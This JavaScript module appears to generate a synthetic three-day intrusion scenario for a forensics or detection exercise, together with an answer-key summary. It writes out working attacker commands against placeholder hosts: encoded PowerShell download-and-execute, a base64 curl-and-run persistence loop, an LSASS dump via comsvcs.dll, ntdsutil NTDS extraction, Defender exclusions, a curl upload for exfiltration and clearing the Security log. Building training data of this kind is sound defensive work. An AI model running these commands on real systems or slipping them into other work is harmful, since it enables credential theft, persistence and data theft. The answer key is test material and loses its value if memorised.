// The intrusion, told once. Every file takes its attack events from here, so that addresses, hashes,
// times and names agree between them.
//
// Day 1  A slow password spray against cloud sign-ins; one password fits. From that mailbox a colleague
//        gets a link, opens what is behind it, and encoded PowerShell brings a beacon.
// Day 2  Discovery, credentials from LSASS memory, on to the file server, the domain controller and a
//        Linux web server.
// Day 3  Before dawn 7 GB are packed on the file server and leave through the proxy; small things leave
//        through DNS. At nine somebody notices and writes the report.

import { gzipSync } from "node:zlib";

import { at, fqdn, SERVERS, user } from "./world.mjs";

export const VICTIM = user("a.okafor"); // whose password was guessed
export const PATIENT = user("j.lindqvist"); // who opened the file
export const ADMIN = user("n.fischer"); // whose credentials were stolen

export const SPRAY_FROM = ["203.0.113.77", "203.0.113.78", "203.0.113.142"];
export const SPRAY_START = at(1, "05:58:12");
export const SPRAY_HIT = at(1, "10:12:40");
export const MAILBOX_FROM = "203.0.113.142";

export const LURE_HOST = "docs-share.seabridge-rates.example.net";
export const LURE_URL = `http://${LURE_HOST}/d/8f2c11/Q1-rate-sheet.zip`;
export const LURE_IP = "198.51.100.23";
export const LURE_FILE = String.raw`C:\Users\j.lindqvist\Downloads\Q1-rate-sheet\Q1-rate-sheet.js`;
export const LURE_SENDER = "billing@seabridge-rates.example.net";
export const STAGE_URL = "http://198.51.100.23/a/7f3e/stage.ps1";
export const OPENED = at(1, "13:47:09");

export const C2_HOST = "telemetry.northlight-cdn.example.net";
export const C2_IP = "198.51.100.61";
export const C2_URL = `https://${C2_HOST}/api/v2/ping`;
export const BEACON = { start: at(1, "13:52:30"), end: at(3, "08:40:00"), periodSeconds: 60, jitter: 0.1 };

export const IMPLANT = {
  path: String.raw`C:\Users\j.lindqvist\AppData\Local\Temp\wupdmgr.exe`,
  md5: "3c0e7f5a19b84d26a1f0c9d7be52e841",
  sha1: "b5d1f0a2c7e94863d05a7cbb19e2f4768d3ac915",
  sha256: "7b1e5c90d3fa4286be0173c5a9d4f6218cc05e39b7a64d1f02e98b53ad7c6f14",
};
export const RUN_KEY = String.raw`HKCU\Software\Microsoft\Windows\CurrentVersion\Run\WUpdMgr`;

export const SERVICE_BINARY = {
  path: String.raw`C:\Windows\Temp\svcnet32.exe`,
  sha256: "c4a80f16e7d25b93108fd6ae53b7c29e04d1f86b9a725ce31fb08d47625e9a3c",
};
export const LSASS_DUMP = String.raw`C:\Windows\Temp\dbg-0310.dmp`;

export const LINUX_URL = "http://198.51.100.23/l/kworkerd";
export const LINUX_PATH = "/tmp/.cache/kworkerd";
export const LINUX_SHA256 = "e29d3b7746c8f150aa94b06df3517ec8902c64ba1de7f3850b6a29c1d8457fe3";
/** What keeps it there, as the attackers ran it. */
export const LINUX_KEEP = `echo ${Buffer.from(`while ! pgrep kworkerd; do curl -s ${LINUX_URL} -o ${LINUX_PATH}; ${LINUX_PATH} --daemon; sleep 60; done`).toString("base64")} | base64 -d | bash`;
export const LINUX_LOGIN = at(2, "11:26:03");

export const ARCHIVE = String.raw`C:\ProgramData\stage\rates-2026.7z`;
export const EXFIL_HOST = "files.blue-harbor.example.org";
export const EXFIL_IP = "203.0.113.9";
export const EXFIL_URL = `https://${EXFIL_HOST}/remote.php/dav/files/lk/rates-2026.7z`;
export const EXFIL = { start: at(3, "02:31:00"), end: at(3, "04:12:00"), parts: 112, bytes: 7_340_032_000 };
export const TUNNEL_DOMAIN = "t.quietdune.example.com";
export const TUNNEL = { start: at(3, "01:05:00"), end: at(3, "01:58:00"), queries: 640 };

export const ASN = "AS64511";
export const CVE = "CVE-2023-38831";

/** Text in gzip in base64, the same on every system (RFC 1952 has a byte for its name). */
function squeeze(text) {
  const bytes = gzipSync(text, { level: 9 });
  bytes[9] = 255;
  return bytes.toString("base64");
}

/** What runs text that `squeeze` made. */
const unsqueeze = (text) =>
  `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('${text}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;

/** What a PowerShell -EncodedCommand carries: base64 of UTF-16LE. */
export const encodePowerShell = (script) => Buffer.from(script, "utf16le").toString("base64");

export const SCRIPTS = {
  stage: `$ErrorActionPreference='SilentlyContinue';IEX (New-Object Net.WebClient).DownloadString('${STAGE_URL}')`,
  persist: `New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name WUpdMgr -Value "$env:TEMP\\wupdmgr.exe" -Force`,
  collect: unsqueeze(squeeze(`$from = 'D:\\Shares\\Finance\\Rates'
$to = 'C:\\ProgramData\\stage'
Get-ChildItem $from -Recurse -Include *.xlsx, *.docx, *.pdf | Sort-Object Length -Descending | ForEach-Object { $_.FullName } > "$to\\list.txt"
Invoke-WebRequest -UseBasicParsing -Method Post -InFile "$to\\list.txt" -Uri '${C2_URL}/list'
`)),
  defender: `Set-MpPreference -ExclusionPath 'C:\\Windows\\Temp','C:\\ProgramData\\stage'`,
};

const WS = PATIENT.host;
const { files: FS, dc: DC } = SERVERS;
const SYS = String.raw`C:\Windows\System32`;
const POWERSHELL = String.raw`${SYS}\WindowsPowerShell\v1.0\powershell.exe`;
const encoded = (script) => `powershell.exe -NoP -NonI -W Hidden -Enc ${encodePowerShell(script)}`;

/** A Windows process of the attack; `id` and `parent` tie the tree together. */
const step = (id, parent, time, host, who, program, command, plants = []) =>
  ({ id, parent, time, host, who, program, command, plants });

const path = (value) => ["windows_path", value];

/** Every Windows process that the attackers started, in order. */
export const PROCESSES = [
  step("lure", "explorer", OPENED, WS, PATIENT, String.raw`${SYS}\wscript.exe`,
    `"${SYS}\\wscript.exe" "${LURE_FILE}"`, [path(LURE_FILE)]),
  step("ps1", "lure", at(1, "13:47:12"), WS, PATIENT, POWERSHELL, encoded(SCRIPTS.stage)),
  step("get", "ps1", at(1, "13:49:55"), WS, PATIENT, String.raw`${SYS}\certutil.exe`,
    `certutil.exe -urlcache -split -f http://${LURE_IP}/a/7f3e/wupd.bin ${IMPLANT.path}`,
    [["url", `http://${LURE_IP}/a/7f3e/wupd.bin`], path(IMPLANT.path)]),
  step("hash", "ps1", at(1, "13:50:20"), WS, PATIENT, String.raw`${SYS}\cmd.exe`,
    `cmd.exe /c if not ${IMPLANT.sha256}==%H% del ${IMPLANT.path}`, [["sha256_hash", IMPLANT.sha256], path(IMPLANT.path)]),
  step("implant", "ps1", at(1, "13:52:28"), WS, PATIENT, IMPLANT.path,
    `${IMPLANT.path} -u ${C2_URL}`, [["url", C2_URL], path(IMPLANT.path)]),
  step("persist", "implant", at(1, "13:53:41"), WS, PATIENT, POWERSHELL, encoded(SCRIPTS.persist)),
  step("reg", "implant", at(1, "13:53:58"), WS, PATIENT, String.raw`${SYS}\reg.exe`,
    `reg.exe query ${RUN_KEY}`, [["registry_key", RUN_KEY]]),
  step("whoami", "implant", at(2, "09:14:05"), WS, PATIENT, String.raw`${SYS}\whoami.exe`, "whoami /all"),
  step("nltest", "implant", at(2, "09:14:31"), WS, PATIENT, String.raw`${SYS}\nltest.exe`, "nltest /domain_trusts"),
  step("net", "implant", at(2, "09:15:10"), WS, PATIENT, String.raw`${SYS}\net.exe`, `net group "Domain Admins" /domain`),
  step("dump", "implant", at(2, "09:41:22"), WS, PATIENT, String.raw`${SYS}\rundll32.exe`,
    String.raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 708 ${LSASS_DUMP} full`, [path(LSASS_DUMP)]),
  step("copyfs", "implant", at(2, "10:20:48"), WS, ADMIN, String.raw`${SYS}\cmd.exe`,
    String.raw`cmd.exe /c copy ${SERVICE_BINARY.path} \\FS01\ADMIN$\Temp\svcnet32.exe`, [path(SERVICE_BINARY.path)]),
  step("wmi", "implant", at(2, "10:21:15"), WS, ADMIN, String.raw`${SYS}\wbem\WMIC.exe`,
    `wmic /node:${FS.ip} process call create "${SERVICE_BINARY.path}"`, [["ipv4", FS.ip], path(SERVICE_BINARY.path)]),
  step("fsimplant", "wmiprvse", at(2, "10:21:18"), FS, ADMIN, SERVICE_BINARY.path, SERVICE_BINARY.path, [path(SERVICE_BINARY.path)]),
  step("mp", "fsimplant", at(2, "10:24:02"), FS, ADMIN, POWERSHELL, encoded(SCRIPTS.defender)),
  step("collect", "fsimplant", at(2, "10:33:47"), FS, ADMIN, POWERSHELL, encoded(SCRIPTS.collect)),
  step("dcsvc", "services", at(2, "10:52:37"), DC, ADMIN, String.raw`${SYS}\cmd.exe`,
    String.raw`cmd.exe /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\Temp\execute.bat`,
    [path(String.raw`C:\Windows\Temp\execute.bat`)]),
  step("ntds", "dcsvc", at(2, "10:55:01"), DC, ADMIN, String.raw`${SYS}\ntdsutil.exe`,
    String.raw`ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\stage\ntds" q q`),
  step("7z", "fsimplant", at(3, "01:40:11"), FS, ADMIN, String.raw`C:\ProgramData\stage\7za.exe`,
    String.raw`7za.exe a -mx1 -v64m ${ARCHIVE} D:\Shares\Finance\Rates`, [path(ARCHIVE)]),
  step("upload", "fsimplant", at(3, "02:30:52"), FS, ADMIN, String.raw`${SYS}\curl.exe`,
    `curl.exe -k -T ${ARCHIVE} ${EXFIL_URL} -x ${SERVERS.proxy.ip}:3128`,
    [["url", EXFIL_URL], ["ipv4", SERVERS.proxy.ip], path(ARCHIVE)]),
  step("clean", "fsimplant", at(3, "04:20:30"), FS, ADMIN, String.raw`${SYS}\wevtutil.exe`, "wevtutil cl Security"),
];

/** The story for truth.json: what a good analysis should find, beside plain indicators. */
export function summary() {
  return {
    encodedPowerShell: PROCESSES.filter((p) => p.command.includes(" -Enc ")).map((p) => ({
      time: new Date(p.time).toISOString(), host: fqdn(p.host),
      decoded: Buffer.from(p.command.split(" -Enc ")[1], "base64").toString("utf16le"),
    })),
    passwordSpray: {
      from: SPRAY_FROM, start: new Date(SPRAY_START).toISOString(),
      success: { user: VICTIM.upn, time: new Date(SPRAY_HIT).toISOString() },
    },
    beacon: {
      client: WS.ip, host: C2_HOST, address: C2_IP, periodSeconds: BEACON.periodSeconds, jitter: BEACON.jitter,
      start: new Date(BEACON.start).toISOString(), end: new Date(BEACON.end).toISOString(),
    },
    lateralMovement: [
      { from: WS.name, to: FS.name, how: "WMI process creation", time: new Date(at(2, "10:21:15")).toISOString() },
      { from: FS.name, to: DC.name, how: "remote service", time: new Date(at(2, "10:52:37")).toISOString() },
      { from: WS.name, to: SERVERS.web.name, how: "SSH", time: new Date(LINUX_LOGIN).toISOString() },
    ],
    exfiltration: [
      { client: FS.ip, host: EXFIL_HOST, address: EXFIL_IP, bytes: EXFIL.bytes, how: "HTTPS upload" },
      { client: FS.ip, host: TUNNEL_DOMAIN, queries: TUNNEL.queries, how: "DNS queries" },
    ],
  };
}
